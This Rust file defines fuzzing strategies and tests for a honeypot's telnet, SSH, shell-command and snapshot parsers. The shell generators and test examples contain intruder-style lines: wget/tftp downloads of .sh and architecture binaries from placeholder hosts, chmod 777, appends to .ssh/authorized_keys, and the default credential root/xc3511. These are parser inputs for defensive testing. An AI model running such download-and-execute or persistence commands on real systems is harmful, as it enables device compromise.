//! Structured fuzzing strategies for the pipeline's parsing surfaces.
//!
//! The vendored proptest subset exposes the [`Strategy`] trait directly, so
//! structured generators are written as types implementing it. Each
//! strategy biases toward the interesting region of its input space —
//! almost-valid telnet negotiation, almost-RFC SSH idents, realistic shell
//! command composition, and targeted snapshot corruption — while still
//! mixing in raw noise, because "mostly valid with surgical damage"
//! exercises far deeper code paths than uniform bytes.
//!
//! The panic-freedom suites in `tests/fuzz_surfaces.rs` drive these through
//! `hf_proto`, `hf_shell`, and `hf_farm::snapshot` entry points.

use std::ops::Range;
use std::sync::OnceLock;

use proptest::strategy::Strategy;
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use hf_farm::snapshot::FORMAT_VERSION;
use hf_geo::{CountryId, Ip4, World, WorldConfig};
use hf_hash::Sha256;
use hf_honeypot::{EndReason, LoginAttempt, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::telnet::{self, IAC};
use hf_proto::Protocol;
use hf_shell::lexer::Chain;
use hf_shell::{CommandRecord, Redirection, Statement};
use hf_simclock::SimInstant;

// ---------------------------------------------------------------------------
// Telnet negotiation streams

/// Strategy for telnet wire bytes: a mix of plain data, escaped 0xFF,
/// negotiation verbs, sub-negotiations (complete, malformed, and
/// truncated), and bare commands.
#[derive(Debug, Clone, Copy, Default)]
pub struct TelnetStream;

/// Telnet wire-byte strategy (see [`TelnetStream`]).
pub fn telnet_stream() -> TelnetStream {
    TelnetStream
}

impl Strategy for TelnetStream {
    type Value = Vec<u8>;

    fn generate(&self, rng: &mut SmallRng) -> Vec<u8> {
        let mut out = Vec::new();
        let pieces = rng.gen_range(0usize..12);
        for _ in 0..pieces {
            match rng.gen_range(0u32..10) {
                // Plain printable data (possibly with line endings).
                0..=2 => {
                    let n = rng.gen_range(0usize..12);
                    for _ in 0..n {
                        out.push(rng.gen_range(0x20u8..0x7f));
                    }
                    if rng.gen_ratio(1, 2) {
                        out.extend_from_slice(b"\r\n");
                    }
                }
                // Escaped literal 0xFF.
                3 => out.extend_from_slice(&[IAC, IAC]),
                // Option negotiation, valid verbs.
                4..=5 => {
                    let verb = [telnet::WILL, telnet::WONT, telnet::DO, telnet::DONT]
                        [rng.gen_range(0usize..4)];
                    out.extend_from_slice(&[IAC, verb, rng.gen()]);
                }
                // Complete sub-negotiation with a small payload.
                6 => {
                    out.extend_from_slice(&[IAC, telnet::SB, rng.gen()]);
                    let n = rng.gen_range(0usize..6);
                    for _ in 0..n {
                        let b: u8 = rng.gen();
                        if b == IAC {
                            out.extend_from_slice(&[IAC, IAC]);
                        } else {
                            out.push(b);
                        }
                    }
                    out.extend_from_slice(&[IAC, telnet::SE]);
                }
                // Malformed: IAC inside SB followed by a non-SE byte.
                7 => out.extend_from_slice(&[IAC, telnet::SB, 31, IAC, 7]),
                // Bare command.
                8 => out.extend_from_slice(&[IAC, rng.gen_range(241u8..250)]),
                // Raw noise, may cut any sequence short.
                _ => {
                    let n = rng.gen_range(1usize..8);
                    for _ in 0..n {
                        out.push(rng.gen());
                    }
                }
            }
        }
        // Sometimes end mid-sequence to exercise cross-feed state.
        if rng.gen_ratio(1, 4) {
            out.push(IAC);
            if rng.gen_ratio(1, 2) {
                out.push(telnet::WILL);
            }
        }
        out
    }
}

// ---------------------------------------------------------------------------
// SSH identification lines

/// Strategy for SSH identification lines: valid RFC 4253 idents, near-miss
/// corruptions of valid idents, and outright junk.
#[derive(Debug, Clone, Copy, Default)]
pub struct SshIdentLine;

/// SSH ident-line strategy (see [`SshIdentLine`]).
pub fn ssh_ident_line() -> SshIdentLine {
    SshIdentLine
}

fn ascii_word(rng: &mut SmallRng, max: usize) -> String {
    let n = rng.gen_range(1..=max);
    (0..n)
        .map(|_| {
            let set = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.";
            set[rng.gen_range(0..set.len())] as char
        })
        .collect()
}

impl Strategy for SshIdentLine {
    type Value = String;

    fn generate(&self, rng: &mut SmallRng) -> String {
        match rng.gen_range(0u32..10) {
            // A banner from the honeypot's own catalog.
            0..=1 => {
                let b = hf_proto::ssh_ident::CLIENT_BANNERS;
                b[rng.gen_range(0..b.len())].to_string()
            }
            // A freshly assembled valid ident, optionally with comments
            // and CRLF.
            2..=4 => {
                let ver = ["2.0", "1.99", "1.5"][rng.gen_range(0usize..3)];
                let sw = ascii_word(rng, 16);
                let mut s = format!("SSH-{ver}-{sw}");
                if rng.gen_ratio(1, 2) {
                    s.push(' ');
                    s.push_str(&ascii_word(rng, 20));
                }
                if rng.gen_ratio(1, 2) {
                    s.push_str("\r\n");
                }
                s
            }
            // Near misses: wrong prefix, missing separator, empty fields,
            // overlong, embedded control bytes.
            5 => format!("SSH{}", ascii_word(rng, 12)),
            6 => "SSH-2.0".to_string(),
            7 => ["SSH--x", "SSH-2.0-", "SSH--"][rng.gen_range(0usize..3)].to_string(),
            8 => format!("SSH-2.0-{}", "x".repeat(rng.gen_range(240usize..400))),
            // Junk, including non-ASCII and control characters.
            _ => {
                let n = rng.gen_range(0usize..40);
                (0..n)
                    .map(|_| char::from(rng.gen_range(0u8..0x90).min(0x7f)))
                    .collect()
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Shell command lines

const COMMANDS: &[&str] = &[
    "uname", "free", "cat", "echo", "cd", "chmod", "rm", "ps", "wget", "curl", "tftp", "ftpget",
    "scp", "sh", "history", "crontab", "uptime", "w", "ls", "mkdir",
];

const ARGS: &[&str] = &[
    "-a",
    "-m",
    "/proc/cpuinfo",
    "/tmp/x",
    ".ssh/authorized_keys",
    "777",
    "-rf",
    "x.sh",
    "model",
    "bot.mips",
    "198.51.100.7",
    "-g",
    "-r",
    "hello world",
    "a'b",
    "$PATH",
];

const URI_TEMPLATES: &[&str] = &[
    "wget http://HOST/PATH",
    "curl -O http://HOST/PATH",
    "wget https://HOST/PATH",
    "tftp -g -r PATH HOST",
    "tftp HOST -c get PATH",
    "ftpget -u anonymous HOST x PATH",
    "scp root@HOST:/tmp/PATH .",
    "wget ftp://HOST/PATH",
];

fn host(rng: &mut SmallRng) -> String {
    format!(
        "{}.{}.{}.{}",
        rng.gen_range(1u8..254),
        rng.gen_range(0u8..255),
        rng.gen_range(0u8..255),
        rng.gen_range(1u8..254)
    )
}

fn one_command(rng: &mut SmallRng, out: &mut String) {
    out.push_str(COMMANDS[rng.gen_range(0..COMMANDS.len())]);
    let n_args = rng.gen_range(0usize..4);
    for _ in 0..n_args {
        out.push(' ');
        let a = ARGS[rng.gen_range(0..ARGS.len())];
        match rng.gen_range(0u32..6) {
            0 => {
                // Single-quote, escaping embedded quotes.
                out.push('\'');
                out.push_str(&a.replace('\'', "'\\''"));
                out.push('\'');
            }
            1 => {
                out.push('"');
                out.push_str(a);
                out.push('"');
            }
            _ => out.push_str(a),
        }
    }
    match rng.gen_range(0u32..8) {
        0 => out.push_str(" > /tmp/out"),
        1 => out.push_str(" >> .ssh/authorized_keys"),
        2 => out.push_str(" 2>/dev/null"),
        3 => out.push_str(" 2>&1"),
        _ => {}
    }
}

/// Strategy for shell command lines composed from the command vocabulary
/// honeypot intruders actually use: quoting, redirections, pipelines, and
/// `;` / `&&` / `||` chaining, plus occasional raw noise.
#[derive(Debug, Clone, Copy, Default)]
pub struct CommandLine {
    uri_biased: bool,
}

/// General shell-command-line strategy.
pub fn command_line() -> CommandLine {
    CommandLine { uri_biased: false }
}

/// Command-line strategy biased toward URI-bearing payloads (download
/// tools with generated hosts and paths).
pub fn uri_command_line() -> CommandLine {
    CommandLine { uri_biased: true }
}

impl Strategy for CommandLine {
    type Value = String;

    fn generate(&self, rng: &mut SmallRng) -> String {
        if !self.uri_biased && rng.gen_ratio(1, 10) {
            // Raw noise: arbitrary printable bytes with shell metachars.
            let n = rng.gen_range(0usize..60);
            return (0..n)
                .map(|_| char::from(rng.gen_range(0x20u8..0x7f)))
                .collect();
        }
        let mut out = String::new();
        let n_stmts = rng.gen_range(1usize..4);
        for i in 0..n_stmts {
            if i > 0 {
                out.push_str([" ; ", " && ", " || ", " | "][rng.gen_range(0usize..4)]);
            }
            let use_uri = self.uri_biased && rng.gen_ratio(2, 3);
            if use_uri {
                let t = URI_TEMPLATES[rng.gen_range(0..URI_TEMPLATES.len())];
                let path = format!(
                    "{}.{}",
                    ascii_word(rng, 8),
                    ["sh", "mips", "arm", "x86"][rng.gen_range(0usize..4)]
                );
                out.push_str(&t.replace("HOST", &host(rng)).replace("PATH", &path));
            } else {
                one_command(rng, &mut out);
            }
        }
        out
    }
}

// ---------------------------------------------------------------------------
// Statement rendering (lex → render → lex idempotence)

/// Render parsed statements back to a canonical command line that re-lexes
/// to the same structure: every word single-quoted (with the `'\''` escape
/// for embedded quotes), redirections spelled out, pipelines joined with
/// `|`, statements joined by their chain operator.
pub fn render_statements(stmts: &[Statement]) -> String {
    let mut out = String::new();
    for stmt in stmts {
        for (i, cmd) in stmt.pipeline.iter().enumerate() {
            if i > 0 {
                out.push_str(" | ");
            }
            let mut first = true;
            for w in &cmd.argv {
                if !first {
                    out.push(' ');
                }
                first = false;
                push_quoted(&mut out, w);
            }
            for r in &cmd.redirs {
                if !first {
                    out.push(' ');
                }
                first = false;
                match r {
                    Redirection::Out(t) => {
                        out.push_str("> ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::Append(t) => {
                        out.push_str(">> ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::In(t) => {
                        out.push_str("< ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::Err(t) => {
                        out.push_str("2> ");
                        push_quoted(&mut out, t);
                    }
                    Redirection::ErrToOut => out.push_str("2>&1"),
                }
            }
        }
        out.push_str(match stmt.chain {
            Chain::Always => " ; ",
            Chain::And => " && ",
            Chain::Or => " || ",
        });
    }
    out
}

/// Single-quote a word so the lexer reproduces it exactly; embedded single
/// quotes use the close-escape-reopen idiom (`'` → `'\''`).
fn push_quoted(out: &mut String, w: &str) {
    out.push('\'');
    out.push_str(&w.replace('\'', "'\\''"));
    out.push('\'');
}

// ---------------------------------------------------------------------------
// Snapshot mutation

/// One targeted corruption of an hfstore snapshot byte buffer.
///
/// Positions are generated as raw draws and reduced modulo the buffer
/// length at [`MutOp::apply`] time, since the strategy does not know the
/// buffer size when values are generated.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MutOp {
    /// XOR one byte with a non-zero mask.
    FlipByte {
        /// Raw position draw (reduced mod len).
        pos: u64,
        /// XOR mask, never zero.
        mask: u8,
    },
    /// Cut the buffer short.
    Truncate {
        /// Raw length draw (reduced mod len).
        keep: u64,
    },
    /// Overwrite a short range with zeros.
    ZeroRange {
        /// Raw position draw (reduced mod len).
        pos: u64,
        /// Range length, 1..=32.
        len: u8,
    },
    /// Insert garbage bytes mid-stream, shifting everything after them.
    Insert {
        /// Raw position draw (reduced mod len, so always before the end).
        pos: u64,
        /// Byte value to insert.
        byte: u8,
        /// How many copies, 1..=64.
        n: u8,
    },
    /// Damage the 8-byte magic specifically.
    CorruptMagic {
        /// Which magic byte, 0..8.
        idx: u8,
    },
    /// Overwrite the format version with an unsupported one.
    BumpVersion {
        /// The bogus version.
        version: u32,
    },
    /// Point the footer's META offset (the last 16 bytes' first 8)
    /// somewhere else.
    RepointMeta {
        /// Raw offset draw (reduced mod len + 64, so it can point past the
        /// end).
        at: u64,
    },
}

impl MutOp {
    /// Apply the mutation. Guaranteed to change the buffer (or its length)
    /// for any non-empty input.
    pub fn apply(self, bytes: &mut Vec<u8>) {
        if bytes.is_empty() {
            return;
        }
        match self {
            MutOp::FlipByte { pos, mask } => {
                let i = (pos % bytes.len() as u64) as usize;
                bytes[i] ^= mask;
            }
            MutOp::Truncate { keep } => {
                let k = (keep % bytes.len() as u64) as usize;
                bytes.truncate(k);
            }
            MutOp::ZeroRange { pos, len } => {
                let i = (pos % bytes.len() as u64) as usize;
                let end = (i + len as usize).min(bytes.len());
                // Zero the range; if it was already all-zero, set the first
                // byte instead so the mutation always changes the buffer.
                let already_zero = bytes[i..end].iter().all(|b| *b == 0);
                for b in &mut bytes[i..end] {
                    *b = 0;
                }
                if already_zero {
                    bytes[i] = 1;
                }
            }
            MutOp::Insert { pos, byte, n } => {
                let i = (pos % bytes.len() as u64) as usize;
                let garbage = std::iter::repeat_n(byte, n.max(1) as usize);
                bytes.splice(i..i, garbage);
            }
            MutOp::CorruptMagic { idx } => {
                let i = (idx as usize) % 8.min(bytes.len());
                bytes[i] ^= 0xA5;
            }
            MutOp::BumpVersion { version } => {
                if bytes.len() >= 12 {
                    bytes[8..12].copy_from_slice(&version.to_le_bytes());
                }
            }
            MutOp::RepointMeta { at } => {
                let Some(footer) = bytes.len().checked_sub(16) else {
                    bytes[0] ^= 0xA5;
                    return;
                };
                let old = u64::from_le_bytes(bytes[footer..footer + 8].try_into().unwrap());
                let at = at % (bytes.len() as u64 + 64);
                let at = if at == old { at + 1 } else { at };
                bytes[footer..footer + 8].copy_from_slice(&at.to_le_bytes());
            }
        }
    }
}

/// Strategy over [`MutOp`] weighted toward byte flips (the checksum
/// workhorse) but covering every structural corruption class.
#[derive(Debug, Clone, Copy, Default)]
pub struct SnapshotMutation;

/// Snapshot-corruption strategy (see [`SnapshotMutation`]).
pub fn snapshot_mutation() -> SnapshotMutation {
    SnapshotMutation
}

impl Strategy for SnapshotMutation {
    type Value = MutOp;

    fn generate(&self, rng: &mut SmallRng) -> MutOp {
        match rng.gen_range(0u32..11) {
            0..=3 => MutOp::FlipByte {
                pos: rng.gen(),
                mask: rng.gen_range(1u8..=255),
            },
            4..=5 => MutOp::Truncate { keep: rng.gen() },
            6 => MutOp::ZeroRange {
                pos: rng.gen(),
                len: rng.gen_range(1u8..=32),
            },
            7 => MutOp::Insert {
                pos: rng.gen(),
                byte: rng.gen(),
                n: rng.gen_range(1u8..=64),
            },
            8 => MutOp::CorruptMagic {
                idx: rng.gen_range(0u8..8),
            },
            9 => MutOp::RepointMeta { at: rng.gen() },
            _ => MutOp::BumpVersion {
                // Any version below 1001 but the one this build reads.
                version: if rng.gen_ratio(1, 2) {
                    0
                } else {
                    match rng.gen_range(1u32..1000) {
                        v if v >= FORMAT_VERSION => v + 1,
                        v => v,
                    }
                },
            },
        }
    }
}

// ---------------------------------------------------------------------------
// Rows-chunk edits that reach the decoder

/// Where one rows chunk sits in an hfstore file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChunkSpan {
    /// Offset of the chunk's digest, where the chunk starts.
    pub at: usize,
    /// The payload's byte range (behind the digest and the length word).
    pub payload: Range<usize>,
}

/// The frame of an hfstore file's rows section, walked from the file
/// itself: the section's own bytes after its id, each chunk, and the
/// trailer. A test helper over well-formed writer output; it panics on a
/// file it cannot walk.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RowsLayout {
    /// Offset of `rows_per_chunk`, just behind the section id.
    pub start: usize,
    /// Every chunk, in file order.
    pub chunks: Vec<ChunkSpan>,
    /// Offset of the trailer, the digest over the chunk digests.
    pub trailer: usize,
}

impl RowsLayout {
    /// Walk `bytes`: the header and the rows section id, then the chunks.
    /// META, where the footer says it starts, fixes the chunk count with
    /// its row count.
    pub fn of(bytes: &[u8]) -> RowsLayout {
        let u32_at = |at: usize| u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap());
        // Magic, version and section count, then the rows section's id.
        let start = 8 + 4 + 4 + 4;
        // META's `[id][len][digest][payload]`; its payload ends with the
        // row count.
        let meta = meta_offset(bytes);
        let meta_len = u64_at(bytes, meta + 4) as usize;
        let n_rows = u64_at(bytes, meta + 4 + 8 + 32 + meta_len - 8) as usize;
        let rows_per_chunk = u32_at(start) as usize;
        let mut chunks = Vec::new();
        let mut at = start + 4;
        for _ in 0..n_rows.div_ceil(rows_per_chunk) {
            let payload = at + 32 + 4;
            let end = payload + u32_at(at + 32) as usize;
            chunks.push(ChunkSpan {
                at,
                payload: payload..end,
            });
            at = end;
        }
        RowsLayout {
            start,
            chunks,
            trailer: at,
        }
    }

    /// One past the trailer: where META starts in a well-formed file.
    pub fn end(&self) -> usize {
        self.trailer + 32
    }
}

fn u64_at(bytes: &[u8], at: usize) -> u64 {
    u64::from_le_bytes(bytes[at..at + 8].try_into().unwrap())
}

/// The META offset the footer of `bytes` states.
fn meta_offset(bytes: &[u8]) -> usize {
    u64_at(bytes, bytes.len() - 16) as usize
}

/// Recompute every chunk digest and the trailer of `bytes`, so payloads
/// edited in place (their length words kept true) pass every checksum and
/// reach the column decoder.
pub fn restamp_rows(bytes: &mut [u8]) {
    let layout = RowsLayout::of(bytes);
    let mut digests = Sha256::new();
    for chunk in &layout.chunks {
        let digest = Sha256::digest(&bytes[chunk.payload.clone()]).0;
        bytes[chunk.at..chunk.at + 32].copy_from_slice(&digest);
        digests.update(&digest);
    }
    bytes[layout.trailer..layout.end()].copy_from_slice(&digests.finalize().0);
}

/// One edit inside a rows chunk's payload. [`ChunkEdit::apply`] rewrites
/// the chunk's length word and re-stamps its digest and the trailer, so the
/// edited bytes pass every checksum and reach the column decoder. The
/// result may still be a valid file (a changed duration, say): a loader
/// must end each case in a typed error or a clean load.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChunkEdit {
    /// XOR one payload byte with a non-zero mask.
    Flip {
        /// Raw chunk draw (reduced mod the chunk count).
        chunk: u64,
        /// Raw position draw (reduced mod the payload length).
        pos: u64,
        /// XOR mask, never zero.
        mask: u8,
    },
    /// Overwrite four payload bytes (a count, a directory entry, a
    /// dictionary field) with one little-endian word.
    Word {
        /// Raw chunk draw.
        chunk: u64,
        /// Raw position draw.
        pos: u64,
        /// The word written.
        word: u32,
    },
    /// Cut the payload short.
    Cut {
        /// Raw chunk draw.
        chunk: u64,
        /// Raw length draw (reduced mod the payload length).
        keep: u64,
    },
    /// Insert bytes into the payload.
    Insert {
        /// Raw chunk draw.
        chunk: u64,
        /// Raw position draw.
        pos: u64,
        /// Byte value to insert.
        byte: u8,
        /// How many copies, 1..=16.
        n: u8,
    },
}

impl ChunkEdit {
    /// Apply the edit to a well-formed snapshot with at least one chunk,
    /// moving the footer's META offset with the chunk's new length.
    pub fn apply(self, bytes: &mut Vec<u8>) {
        let layout = RowsLayout::of(bytes);
        let n = layout.chunks.len() as u64;
        let draw = match self {
            ChunkEdit::Flip { chunk, .. }
            | ChunkEdit::Word { chunk, .. }
            | ChunkEdit::Cut { chunk, .. }
            | ChunkEdit::Insert { chunk, .. } => chunk,
        };
        let span = layout.chunks[(draw % n) as usize].clone();
        let mut payload = bytes[span.payload.clone()].to_vec();
        let at = |pos: u64| (pos % payload.len().max(1) as u64) as usize;
        match self {
            ChunkEdit::Flip { pos, mask, .. } => {
                let i = at(pos);
                payload[i] ^= mask;
            }
            ChunkEdit::Word { pos, word, .. } => {
                let i = at(pos).min(payload.len().saturating_sub(4));
                for (b, w) in payload[i..].iter_mut().zip(word.to_le_bytes()) {
                    *b = w;
                }
            }
            ChunkEdit::Cut { keep, .. } => payload.truncate(at(keep)),
            ChunkEdit::Insert { pos, byte, n, .. } => {
                let i = at(pos);
                payload.splice(i..i, std::iter::repeat_n(byte, n.max(1) as usize));
            }
        }
        let mut frame = (payload.len() as u32).to_le_bytes().to_vec();
        frame.extend_from_slice(&payload);
        let (meta, len) = (meta_offset(bytes), bytes.len());
        bytes.splice(span.at + 32..span.payload.end, frame);
        // META moved with the rows' end: point the footer at it.
        let footer = bytes.len() - 16;
        let meta = (meta + bytes.len() - len) as u64;
        bytes[footer..footer + 8].copy_from_slice(&meta.to_le_bytes());
        restamp_rows(bytes);
    }
}

/// Strategy over [`ChunkEdit`] (see [`chunk_edit`]).
#[derive(Debug, Clone, Copy, Default)]
pub struct ChunkEdits;

/// Rows-chunk edit strategy, weighted toward byte flips.
pub fn chunk_edit() -> ChunkEdits {
    ChunkEdits
}

impl Strategy for ChunkEdits {
    type Value = ChunkEdit;

    fn generate(&self, rng: &mut SmallRng) -> ChunkEdit {
        let (chunk, pos) = (rng.gen(), rng.gen());
        match rng.gen_range(0u32..8) {
            0..=3 => ChunkEdit::Flip {
                chunk,
                pos,
                mask: rng.gen_range(1u8..=255),
            },
            4 => ChunkEdit::Word {
                chunk,
                pos,
                word: if rng.gen_ratio(1, 2) {
                    rng.gen()
                } else {
                    rng.gen_range(0..300)
                },
            },
            5 => ChunkEdit::Cut { chunk, keep: pos },
            _ => ChunkEdit::Insert {
                chunk,
                pos,
                byte: rng.gen(),
                n: rng.gen_range(1u8..=16),
            },
        }
    }
}

// ---------------------------------------------------------------------------
// Session records

/// The world [`session_record`] draws its resolvable client addresses from;
/// collect and measure its records against this one.
pub fn record_world() -> World {
    World::build(1, &WorldConfig::tiny())
}

/// Honeypots, first-sighting-relevant days and artifacts come from small
/// pools so that clients, hashes and honeypots repeat across sessions and
/// days. The days cross the 7- and 30-day freshness windows.
const RECORD_HONEYPOTS: [u16; 6] = [0, 1, 7, 13, 40, 220];
const RECORD_DAYS: [u32; 8] = [0, 1, 2, 6, 9, 16, 39, 46];
const RECORD_CREDS: [(&str, &str); 4] = [
    ("root", "xc3511"),
    ("root", "root"),
    ("admin", "admin"),
    ("root", ""),
];
const RECORD_URIS: [&str; 2] = ["http://198.51.100.9/bins/x.arm7", "tftp://198.51.100.9/t"];

/// Eight client addresses: four that [`record_world`] resolves and four
/// that it does not.
fn record_clients() -> &'static [Ip4] {
    static CLIENTS: OnceLock<Vec<Ip4>> = OnceLock::new();
    CLIENTS.get_or_init(|| {
        let world = record_world();
        let mut rng = SmallRng::seed_from_u64(7);
        let mut clients: Vec<Ip4> = (0..4)
            .map(|c| world.random_ip_in_country(CountryId(c), &mut rng))
            .collect();
        let unresolved = (0..=255)
            .map(|host| Ip4::new(203, 0, 113, host))
            .filter(|&ip| world.locate(ip).is_none());
        clients.extend(unresolved.take(4));
        clients
    })
}

/// Strategy for whole session records (see [`session_record`]).
#[derive(Debug, Clone, Copy, Default)]
pub struct SessionRecords;

/// Strategy for session records as a honeypot reports them. Clients,
/// honeypots, days and hashes come from small pools, so they repeat; a
/// session may carry one hash twice (as a file and as a download); command
/// sessions often run exactly one command; half the clients resolve in
/// [`record_world`]. Credentials mix a small pool with generated ones, and
/// command lines come from [`command_line`], so the store's interning sees
/// arbitrary strings too.
pub fn session_record() -> SessionRecords {
    SessionRecords
}

impl Strategy for SessionRecords {
    type Value = SessionRecord;

    fn generate(&self, rng: &mut SmallRng) -> SessionRecord {
        fn pick<T: Copy>(rng: &mut SmallRng, pool: &[T]) -> T {
            pool[rng.gen_range(0..pool.len())]
        }
        let ssh = rng.gen_ratio(1, 2);
        let logins: Vec<LoginAttempt> = (0..rng.gen_range(0usize..4))
            .map(|_| {
                let creds = if rng.gen_ratio(3, 4) {
                    let (user, pass) = pick(rng, &RECORD_CREDS);
                    Credentials::new(user, pass)
                } else {
                    let pass: String = (0..rng.gen_range(0usize..12))
                        .map(|_| char::from(rng.gen_range(0x20u8..0x7f)))
                        .collect();
                    Credentials::new(&ascii_word(rng, 8), &pass)
                };
                LoginAttempt {
                    creds,
                    accepted: rng.gen_ratio(1, 2),
                }
            })
            .collect();
        let n_commands = if logins.iter().any(|l| l.accepted) {
            pick(rng, &[0usize, 1, 1, 2, 3])
        } else {
            0
        };
        let commands: Vec<CommandRecord> = (0..n_commands)
            .map(|_| CommandRecord {
                input: command_line().generate(rng),
                known: rng.gen_ratio(3, 4),
            })
            .collect();
        let uris: Vec<String> = (RECORD_URIS.iter())
            .filter(|_| !commands.is_empty() && rng.gen_ratio(1, 3))
            .map(|u| u.to_string())
            .collect();
        let hash = |rng: &mut SmallRng| Sha256::digest(&[rng.gen_range(0u8..6)]);
        SessionRecord {
            honeypot: pick(rng, &RECORD_HONEYPOTS),
            protocol: if ssh { Protocol::Ssh } else { Protocol::Telnet },
            client_ip: pick(rng, record_clients()),
            client_port: rng.gen_range(1u16..u16::MAX),
            start: SimInstant::from_day_and_secs(
                pick(rng, &RECORD_DAYS),
                rng.gen_range(0u32..86_400),
            ),
            duration_secs: rng.gen_range(0u32..700),
            ended_by: pick(
                rng,
                &[
                    EndReason::ClientClose,
                    EndReason::Timeout,
                    EndReason::AuthLimit,
                ],
            ),
            ssh_client_version: (ssh && rng.gen_ratio(3, 4))
                .then(|| pick(rng, &["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6"]).to_string()),
            logins,
            commands,
            uris,
            file_hashes: (0..rng.gen_range(0usize..4)).map(|_| hash(rng)).collect(),
            download_hashes: (0..rng.gen_range(0usize..3)).map(|_| hash(rng)).collect(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_shell::split_statements;

    fn rng(seed: u64) -> SmallRng {
        SmallRng::seed_from_u64(seed)
    }

    #[test]
    fn telnet_stream_produces_varied_bytes() {
        let strat = telnet_stream();
        let mut saw_iac = false;
        let mut saw_data = false;
        for seed in 0..64 {
            let v = strat.generate(&mut rng(seed));
            saw_iac |= v.contains(&IAC);
            saw_data |= v.iter().any(|&b| (0x20..0x7f).contains(&b));
        }
        assert!(saw_iac && saw_data);
    }

    #[test]
    fn ssh_ident_mixes_valid_and_invalid() {
        let strat = ssh_ident_line();
        let (mut ok, mut bad) = (0, 0);
        for seed in 0..128 {
            let s = strat.generate(&mut rng(seed));
            match hf_proto::ssh_ident::SshIdent::parse(&s) {
                Ok(_) => ok += 1,
                Err(_) => bad += 1,
            }
        }
        assert!(ok > 10, "valid idents generated: {ok}");
        assert!(bad > 10, "invalid idents generated: {bad}");
    }

    #[test]
    fn command_lines_lex_and_sometimes_carry_uris() {
        let general = command_line();
        let biased = uri_command_line();
        let mut uris = 0;
        for seed in 0..64 {
            let line = general.generate(&mut rng(seed));
            let _ = split_statements(&line);
            let line = biased.generate(&mut rng(seed));
            if !hf_shell::extract_uris(&line).is_empty() {
                uris += 1;
            }
        }
        assert!(uris > 20, "uri-biased lines with uris: {uris}");
    }

    #[test]
    fn render_statements_is_idempotent_on_examples() {
        for line in [
            "uname -a; free -m",
            "cd /tmp && wget http://1.2.3.4/x.sh && chmod 777 x.sh",
            "cat /proc/cpuinfo | grep model | head -1",
            "echo 'a b' \"c d\" e\\ f",
            "echo key >> /root/.ssh/authorized_keys 2>&1",
            "echo can'\\''t",
            "wget http://x/a 2>/dev/null 2>&1 || echo fail",
            "> /tmp/empty",
        ] {
            let first = split_statements(line);
            let rendered = render_statements(&first);
            let second = split_statements(&rendered);
            assert_eq!(
                first, second,
                "render not stable for {line:?}\n→ {rendered:?}"
            );
        }
    }

    #[test]
    fn mutations_change_the_buffer() {
        let strat = snapshot_mutation();
        for seed in 0..256 {
            let op = strat.generate(&mut rng(seed));
            let original: Vec<u8> = (0..64u8).collect();
            let mut mutated = original.clone();
            op.apply(&mut mutated);
            assert_ne!(original, mutated, "no-op mutation from {op:?}");
        }
    }

    #[test]
    fn bump_version_targets_the_version_field() {
        let mut bytes = vec![0u8; 16];
        MutOp::BumpVersion { version: 7 }.apply(&mut bytes);
        assert_eq!(&bytes[8..12], &7u32.to_le_bytes());
    }
}
